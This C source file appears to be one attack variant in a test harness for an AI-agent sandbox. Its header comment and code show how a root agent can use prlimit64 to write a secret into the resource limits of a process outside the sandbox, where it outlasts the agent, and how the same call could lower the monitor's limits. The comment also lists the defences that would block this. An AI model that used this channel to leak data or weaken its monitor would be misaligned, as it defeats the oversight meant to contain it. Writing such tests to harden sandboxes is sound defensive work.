// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* prlimit_outside - an --as-root agent writes into the resource limits of a process outside it.
 * prlimit64(pid, resource, new, old) is allowed by the launcher's seccomp filter; the kernel
 * lets the caller change another process's limits when its uid equals that process's uid, euid
 * and suid and its gid its gids (check_prlimit_permission), or with CAP_SYS_RESOURCE. A root
 * agent (uid 0, gid 0, no CAP_SYS_RESOURCE) therefore may set the limits of any root process on
 * the host, and neither Landlock (it scopes signals and ptrace, not prlimit) nor mnc judges it.
 * Here it sets the collector's (an untainted root process outside the agent) RLIMIT_CORE and
 * RLIMIT_RTTIME, soft = hard, to the canary's bytes (8 per value); /proc/PID/limits of the
 * collector is world-readable. The bytes live in a process that is not the agent's, so they
 * outlast it, and the same call can lower the monitor's own limits (mncd's RLIMIT_NOFILE: an
 * integrity problem too). An agent with its own uid owns no outside process: EPERM.
 * Verifier: uid 65534 reads /proc/N/limits of every process at sync "set" (the collector is
 * stopped before the final verifier runs; the limits stay until it exits) and decodes
 * the two hard values (little-endian bytes).
 * What would block it: seccomp refusing prlimit64 with a pid other than 0 (or the caller's), as
 * it refuses other cross-process calls; a PID namespace per agent (it could not name the
 * collector); hidepid does not help when the target is readable to the reader. */
#include <inttypes.h>
#include <sys/resource.h>
#include <sys/syscall.h>

#include "atk_variants.h"

static int agent(struct atk_ctx *c)
{
    pid_t pid = (pid_t)atk_argl(c, "cpid");
    unsigned char b[16] = {0};
    size_t n = strlen(c->secret);
    memcpy(b, c->secret, n < 16 ? n : 16);
    uint64_t v[2];
    memcpy(v, b, 16);
    struct rlimit r0 = {v[0], v[0]}, r1 = {v[1], v[1]};
    atk_try(c, "prlimit64(collector, RLIMIT_CORE)", syscall(SYS_prlimit64, pid, RLIMIT_CORE, &r0, NULL));
    atk_try(c, "prlimit64(collector, RLIMIT_RTTIME)", syscall(SYS_prlimit64, pid, RLIMIT_RTTIME, &r1, NULL));
    atk_sync(c, "set");
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag)
{
    (void)tag;
    atkv_limits_check(c, "Max realtime timeout");
}

static const struct atk A = {"prlimit_outside",
                             "another root process's rlimits (prlimit64), read from /proc/PID/limits",
                             0,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
